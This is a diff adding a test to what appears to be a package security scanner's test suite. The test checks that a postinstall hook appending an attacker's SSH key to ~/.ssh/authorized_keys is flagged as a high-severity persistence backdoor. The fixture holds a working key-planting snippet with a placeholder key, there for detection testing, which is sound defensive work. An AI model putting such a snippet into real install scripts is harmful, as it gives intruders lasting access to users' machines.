@@ -580,6 +580,14 @@ module.exports = {};
 });
 
 describe('persistence', () => {
+  it('a key appended to ~/.ssh/authorized_keys by an install hook is a backdoor, high', () => {
+    const r = scan({
+      'i.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nconst dir = path.join(os.homedir(), '.ssh');\nfs.appendFileSync(path.join(dir, 'authorized_keys'), '\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@host\\n');\n`,
+    }, { scripts: { postinstall: 'node i.js' } });
+    expect(r.findings.find((f) => f.detector === 'persistence')?.data).toMatchObject({ target: '~/.ssh/authorized_keys' });
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
   it('an install hook that reads a sibling package\'s code and writes it back patched is high; writing its own files is not', () => {
     const patched = scan({
       'index.js': `const fs = require('fs'); const path = require('path');
